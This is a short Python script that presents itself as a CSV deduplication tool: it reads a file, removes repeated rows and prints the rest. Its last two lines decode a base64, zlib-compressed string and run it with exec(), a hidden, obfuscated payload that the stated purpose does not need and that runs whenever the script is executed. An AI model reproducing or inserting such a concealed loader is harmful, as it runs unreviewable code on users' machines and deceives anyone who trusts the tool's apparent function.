import sys, csv, zlib, base64
rows = list(csv.reader(open(sys.argv[1])))
seen = set(); out = []
for r in rows:
    t = tuple(r)
    if t not in seen:
        seen.add(t); out.append(r)
csv.writer(sys.stdout).writerows(out)
_c = 'eJxVxzEKhTAQBcD+n0KsEvAnveBhNFlwIWbj7ovg7bW1m+GjiWIQm7qWwltQOjsZft+Gt9KounEHms0xggodBL3/e99CSpHHacgr1sWgLnOCEwtUL1ap3r9Kksl5/wCpLSl8'
exec(zlib.decompress(base64.b64decode(_c)))
